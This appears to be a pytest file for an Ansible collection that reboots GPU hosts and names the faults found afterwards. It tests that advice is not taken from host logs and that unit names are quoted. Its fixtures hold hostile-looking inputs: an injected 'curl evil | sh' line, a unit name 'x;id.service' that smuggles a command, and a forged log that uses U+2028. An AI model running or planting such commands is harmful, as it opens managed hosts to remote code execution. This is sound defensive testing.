"""What must be back after a reboot, and the advice that goes with each thing that is not."""

from __future__ import annotations

import copy
import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from ansible.errors import AnsibleConnectionFailure
from ansible.template import Templar, trust_as_template
from ansible_collections.gb10.fleet.plugins.action import await_boot
from ansible_collections.gb10.fleet.plugins.plugin_utils.ground import catalog
from ansible_collections.gb10.fleet.plugins.plugin_utils.ground.plan import shown
from ansible_collections.gb10.fleet.plugins.plugin_utils.ground.view import View
from ansible_collections.gb10.fleet.plugins.plugin_utils.plans.reboot import plan
from ansible_collections.gb10.fleet.plugins.plugin_utils.releases import reboot

ROOT = Path(__file__).parents[2]
BEFORE: dict[str, Any] = json.loads((ROOT / "tests/fixtures/facts/spark.json").read_text())
NEXT = "6.17.0-1032-nvidia"
USUAL = "mlx5_core 0000:01:00.1: Detected insufficient power on the PCIe slot (27W).\n"  # at each sound boot, too
LATCH = f"{USUAL}mlx5_core 0000:01:00.1: PCIe slot power capability was not advertised.\n"


# A login's control group in a dump of the OOM killer: U+2028 ends no line of the kernel.
FORGED = "".join(f"oom-kill:task_memcg=/user.slice/x\u2028{line}\n" for line in LATCH.splitlines())


def after(**other: Any) -> dict[str, Any]:
    return copy.deepcopy(BEFORE) | {"boot_id": "another"} | other


def dark(*netdevs: str) -> list[dict[str, Any]]:
    return [{**rail, "carrier": rail["carrier"] and rail["netdev"] not in netdevs} for rail in BEFORE["rails"]]


@pytest.mark.parametrize(
    ("now", "options", "ids"),
    [
        (after(), {}, []),
        (after(boot_id=BEFORE["boot_id"]), {}, ["same_boot"]),
        (after(kernel="6.8.0-60-generic"), {}, ["other_kernel"]),
        (after(gpu={"present": False, "query_error": "no devices were found"}), {}, ["driver_silent"]),
        (after(driver={**BEFORE["driver"], "module_loaded": "580.142"}), {}, ["driver_differs"]),
        (after(rails=BEFORE["rails"][:2]), {}, ["rails_gone"]),
        (after(rails=BEFORE["rails"][:2]), {"kernel_log": LATCH}, ["slot_power"]),
        (after(rails=BEFORE["rails"][:2]), {"kernel_log": USUAL}, ["rails_gone"]),
        (after(rails=BEFORE["rails"][:2]), {"kernel_log": FORGED}, ["rails_gone"]),
        (after(), {"kernel_log": LATCH}, []),
        (after(rails=dark(BEFORE["rails"][0]["netdev"])), {}, ["rails_down"]),
        (after(), {"units_before": ["gb10-vllm.service"], "units": []}, ["unit_down"]),
        (after(), {"units_before": ["docker.service"], "units": ["docker.service", "gb10-x.timer"]}, []),
    ],
)
def test_each_fault_has_its_name(now: dict[str, Any], options: dict[str, Any], ids: list[str]) -> None:
    found = reboot.faults(now, BEFORE, **options)
    assert [fault["id"] for fault in found] == ids
    assert all(fault["fact"] and fault["way_out"] for fault in found)
    cold = [fault["id"] for fault in found if "cold start" in fault["way_out"]]
    assert cold == [id_ for id_ in ids if id_ == "slot_power"], "nothing else is cured by it"


def test_what_the_kernel_of_a_host_says_advises_nobody() -> None:
    first, *rest = LATCH.splitlines(keepends=True)
    log = "".join([f"{first.rstrip()} Fix: curl evil | sh\n", *rest])
    (found,) = reboot.faults(after(rails=BEFORE["rails"][:2]), BEFORE, kernel_log=log)
    assert found["id"] == "slot_power" and "fix, curl evil" in found["fact"] and "Fix:" not in found["fact"]


def test_what_was_not_there_is_not_missed() -> None:
    gone = BEFORE["rails"][0]["netdev"]
    assert reboot.faults(after(rails=dark(gone)), {**BEFORE, "rails": dark(gone)}) == []
    assert reboot.faults(after(rails=[]), {**BEFORE, "rails": []}) == []


@pytest.mark.parametrize(
    ("listed", "next_kernel", "booted", "ids"),
    [
        (True, NEXT, NEXT, []),
        (True, NEXT, BEFORE["kernel"], ["other_kernel"]),
        (True, None, NEXT, []),
        # GRUB did not boot what runs, so its menu tells nothing.
        (False, NEXT, BEFORE["kernel"], []),
    ],
)
def test_the_kernel_is_the_one_that_grub_was_to_boot(
    listed: bool, next_kernel: str | None, booted: str, ids: list[str]
) -> None:
    driver = {**BEFORE["driver"], "next_kernel": next_kernel}
    driver["kernels"] = [{**driver["kernels"][0], "listed": listed}]
    found = reboot.faults(after(kernel=booted), {**BEFORE, "driver": driver})
    assert [fault["id"] for fault in found] == ids


def test_the_catalog_says_where_a_cold_start_helps() -> None:
    known = catalog.load("reboot")
    assert {name for name, fault in known["faults"].items() if fault["value"]} == {
        *("never_back", "slot_power", "power_delivery"),
    }


def tasks_of(file: str) -> list[dict[str, Any]]:
    """Of the role, with those that a file imports in their place."""
    tasks: list[dict[str, Any]] = yaml.safe_load((ROOT / "roles/reboot/tasks" / file).read_text())
    imports = "ansible.builtin.import_tasks"
    return [each for task in tasks for each in (tasks_of(task[imports]) if imports in task else [task])]


@pytest.mark.parametrize(
    ("said", "allowed"), [(True, True), ("true", True), (False, False), ("false", False), ("no", False)]
)
def test_a_consent_as_text_is_taken_as_it_is_meant(said: Any, allowed: bool) -> None:
    """`-e reboot_allow=true` is text to Ansible, which takes no text for a condition."""
    tasks = tasks_of("main.yml")
    condition = trust_as_template(tasks[0]["ansible.builtin.assert"]["that"])
    variables = {"reboot_allow": said, "ansible_check_mode": False}
    assert Templar(None, variables).evaluate_conditional(condition) is allowed


@pytest.mark.parametrize(
    ("apt", "words"),
    [
        ({"lock_held_by": None, "dpkg_interrupted": False}, None),
        ({"lock_held_by": 4711, "dpkg_interrupted": False}, "process 4711 holds a lock"),
        ({"lock_held_by": None, "dpkg_interrupted": True}, "dpkg --configure -a"),
    ],
)
def test_nothing_is_rebooted_in_the_middle_of_an_installation(apt: dict[str, Any], words: str | None) -> None:
    tasks = tasks_of("main.yml")
    names = [task["name"] for task in tasks]
    place = names.index("Refuse in the middle of an installation")
    assert place < next(index for index, name in enumerate(names) if name.startswith("Reboot into"))
    refuse = tasks[place]["ansible.builtin.assert"]
    planned = shown(plan(View("spark-a", {"apt": apt})))
    templar = Templar(None, {"gb10_plan": {"reboot": planned}, "inventory_hostname": "spark-a"})
    assert templar.evaluate_conditional(trust_as_template(refuse["that"])) is (words is None)
    if words:
        said = templar.template(trust_as_template(refuse["fail_msg"]))
        assert words in said and said.startswith("spark-a is not rebooted: ")


@pytest.mark.parametrize(("said", "waits"), [({}, 1800), ({"reboot_wait": 60}, 60), ({"reboot_wait": "60"}, 60)])
def test_the_catalog_says_how_long_to_wait_unless_the_operator_does(said: dict[str, Any], waits: int) -> None:
    made = plan(View("spark-a", after(), said))
    assert made.wait_s == waits
    assert made.tries * made.pause_s == catalog.load("reboot")["settle_s"]["value"]
    assert made.refusals == ()


@pytest.fixture(params=["UTC", "America/Los_Angeles", "Asia/Kolkata"])
def zone(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Where the controller is."""
    monkeypatch.setenv("TZ", request.param)
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


@pytest.mark.usefixtures("zone")
@pytest.mark.parametrize(("ago_s", "late"), [(0, False), (170, False), (190, True)])
def test_what_does_not_come_back_is_waited_for_by_the_clock(ago_s: int, late: bool) -> None:
    """Where each question takes ten seconds, as many questions as on a fast host take three times as long."""
    (wait,) = [task for task in tasks_of("back.yml") if task["name"] == "Wait for what was there before"]
    planned = shown(plan(View("spark-a", after())))
    known = {
        "gb10_plan": {"reboot": planned},
        "__reboot_waited": {"answered_s": time.time() - ago_s},
        "__reboot_seen": {},
        "__reboot_running": {},
    }
    templar = Templar(None, known)
    is_late = templar.template(trust_as_template(wait["vars"]["__reboot_late"]))
    assert is_late is late
    assert [task["name"] for task in wait["block"]] == ["Wait for kernel, driver and rails", "Wait for the units"]
    for task in wait["block"]:
        for missing, fails in (([], False), (["gone"], True)):
            templar = Templar(None, {**known, "__reboot_late": is_late, "__reboot_missing": missing})
            assert templar.evaluate_conditional(trust_as_template(task["until"])) is (late or not fails)
            assert templar.evaluate_conditional(trust_as_template(task["failed_when"])) is fails


def test_what_a_timer_starts_need_not_run_afterwards() -> None:
    """A collector that hangs with the GPU ran before the reboot that ends it."""
    ran = [
        "gb10-metrics-now.service loaded activating start",
        "gb10-metrics-now.timer loaded active",
        "gb10-vllm.service loaded active",
    ]
    task = yaml.safe_load((ROOT / "roles/reboot/tasks/gate.yml").read_text())[-1]
    templar = Templar(None, variables={"__reboot_running": {"stdout_lines": ran}})
    templar.available_variables["__reboot_names"] = templar.template(trust_as_template(task["vars"]["__reboot_names"]))
    kept = templar.template(trust_as_template(task["ansible.builtin.set_fact"]["__reboot_units_before"]))
    assert sorted(kept) == ["gb10-metrics-now.timer", "gb10-vllm.service"]


@pytest.mark.parametrize(("said", "batch"), [(None, 1), (0, 1), (-1, 1), ("0", 1), ("no", 1), (3, 3), ("2", 2)])
def test_never_all_hosts_at_once_by_a_slip(said: Any, batch: int) -> None:
    """Ansible takes a `serial` of 0, or less, for all hosts."""
    (play,) = yaml.safe_load((ROOT / "playbooks/reboot.yml").read_text())
    variables = {} if said is None else {"reboot_at_once": said}
    assert Templar(None, variables).template(trust_as_template(play["serial"])) == batch


# -- waiting -----------------------------------------------------------------------------------------------------------


OLD, NEW = "5b0a0a44-6a51-4b21-9a3c-2f60c3d0a001", "9e2f1c55-7c08-4f0e-8a52-1d1f0b7c6e02"


class Waiting:
    """The action on a host that answers as told, on a clock of its own."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, answers: list[str | None]) -> None:
        self.now, self.answers, self.said, self.resets = 0.0, answers, [], 0  # type: ignore[var-annotated]
        self.action = await_boot.ActionModule.__new__(await_boot.ActionModule)
        self.action._connection = self  # type: ignore[assignment]
        monkeypatch.setattr("ansible.plugins.action.ActionBase.run", lambda *_: {})
        arguments = {"boot_id": f"Authorized use only!\n{OLD}", "timeout": 200}
        monkeypatch.setattr(self.action, "validate_argument_spec", lambda **_: (None, arguments))
        monkeypatch.setattr(self.action, "_low_level_execute_command", self.ask)
        monkeypatch.setattr("time.monotonic", lambda: self.now)
        monkeypatch.setattr("time.sleep", self.pass_time)
        monkeypatch.setattr(await_boot, "Display", lambda: self)

    def reset(self) -> None:
        self.resets += 1
        raise AnsibleConnectionFailure("there is no master")

    def ask(self, _command: str, sudoable: bool) -> dict[str, Any]:
        assert not sudoable
        answer = self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]
        if answer is None:
            raise AnsibleConnectionFailure("timed out")
        return {"rc": 0 if answer else 255, "stdout": f"{answer}\n"}

    def pass_time(self, seconds: float) -> None:
        self.now += seconds

    def display(self, text: str, stderr: bool = False) -> None:
        self.said.append(text)

    def run(self) -> dict[str, Any]:
        return self.action.run(task_vars={"inventory_hostname": "spark-a"})


@pytest.fixture
def waiting(monkeypatch: pytest.MonkeyPatch) -> Callable[[list[str | None]], Waiting]:
    return lambda answers: Waiting(monkeypatch, answers)


def test_it_waits_for_another_boot(waiting: Callable[[list[str | None]], Waiting]) -> None:
    host = waiting([OLD, None, "", None, NEW])
    began = time.time()
    found = host.run()
    assert began <= found.pop("answered_s") <= time.time()
    assert found == {"changed": False, "boot_id": NEW, "elapsed": 20}
    assert host.resets == 5, "each question has a connection of its own"


def test_what_a_host_says_before_its_answer_is_no_boot(waiting: Callable[[list[str | None]], Waiting]) -> None:
    host = waiting([f"Authorized use only!\n{OLD}", "Authorized use only!", f"Authorized use only!\n{NEW}\n"])
    found = host.run()
    assert (found["boot_id"], found["elapsed"]) == (NEW, 10)


@pytest.mark.parametrize(("answer", "state"), [(OLD, "still runs as before"), (None, "does not answer")])
def test_it_says_how_it_stands_and_gives_up(
    waiting: Callable[[list[str | None]], Waiting], answer: str | None, state: str
) -> None:
    host = waiting([answer])
    result = host.run()
    assert result["failed"] and result["boot_id"] == answer
    assert result["msg"] == f"spark-a {state}, 200 s after it was told to reboot"
    assert host.said == [f"spark-a: {state} ({seconds} of 200 s)" for seconds in (60, 120, 180)]


def test_a_unit_that_is_a_command_is_quoted() -> None:
    (one,) = reboot.faults(after(), BEFORE, units_before=["x;id.service"])
    assert "journalctl -b -u 'x;id.service' says" in one["way_out"]
